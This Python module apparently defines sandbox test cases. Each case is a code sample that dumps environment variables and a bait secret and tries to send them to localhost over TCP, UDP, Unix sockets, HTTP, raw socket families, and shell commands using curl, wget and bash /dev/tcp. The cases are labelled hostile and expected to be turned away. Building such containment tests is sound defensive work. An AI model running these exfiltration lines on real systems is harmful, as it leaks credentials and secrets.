"""The network, of every kind."""

from hostile.attack import harm

SEND = """
import os
secret = os.environ.get("DL101_BAIT_SECRET", "no secret") + str(dict(os.environ))
def mean(x):
    return sum(x) / len(x)
"""
TRIED = ("turned-away", "hostile")


def _net(id, about, attempt):
    lines = "".join("    " + line + "\n" for line in attempt.strip().splitlines())
    text = (
        SEND
        + "import socket\nsocket.setdefaulttimeout(1)\ntry:\n"
        + lines
        + "except Exception as error:\n    print(error)"
    )
    return harm(id, about, {"mean": text}, events=TRIED)


ATTACKS = [
    _net("net-tcp", "the environment sent over TCP", """
s = socket.create_connection(("127.0.0.1", @TCP@), 1)
s.sendall(secret.encode())
print("@MARK@ sent")
"""),
    _net("net-udp", "the environment sent over UDP", """
s = socket.socket(type=socket.SOCK_DGRAM)
s.sendto(secret.encode()[:1000], ("127.0.0.1", @UDP@))
"""),
    _net("net-unix", "a socket of this machine's file system", """
s = socket.socket(socket.AF_UNIX)
s.connect("@UNIX@")
s.sendall(secret.encode()[:1000])
print("@MARK@ sent")
"""),
    _net("net-http", "a page fetched, the secret in its address", """
import urllib.request
urllib.request.urlopen("http://127.0.0.1:@TCP@/?" + os.environ.get("DL101_BAIT_SECRET", ""), timeout=1).read()
print("@MARK@ sent")
"""),
    _net("net-shell", "curl, wget and bash's own sockets by the shell", """
import subprocess
for command in ("curl -m 1 http://127.0.0.1:@TCP@/$DL101_BAIT_SECRET", "wget -T 1 -t 1 -O- http://127.0.0.1:@TCP@/",
                "bash -c 'echo $DL101_BAIT_SECRET > /dev/tcp/127.0.0.1/@TCP@'"):
    subprocess.run(command, shell=True, timeout=5, capture_output=True)
"""),
    _net("net-listen", "a server that waits for whoever comes", """
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen()
t = socket.create_connection(s.getsockname(), 1)
t.sendall(b"hello")
os.chdir("/tmp")
a = socket.socket(socket.AF_UNIX)
a.bind("\\0@MARK@")
"""),
    _net("net-raw", "raw packets, netlink, Bluetooth, name service", """
for family in ("AF_PACKET", "AF_NETLINK", "AF_BLUETOOTH", "AF_VSOCK", "AF_ALG"):
    for kind in (socket.SOCK_RAW, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        try:
            s = socket.socket(getattr(socket, family), kind)
            s.send(secret.encode()[:100])
        except Exception:
            pass
print(socket.getaddrinfo("localhost", 80), socket.gethostbyname("example.com"))
"""),
]  # fmt: skip
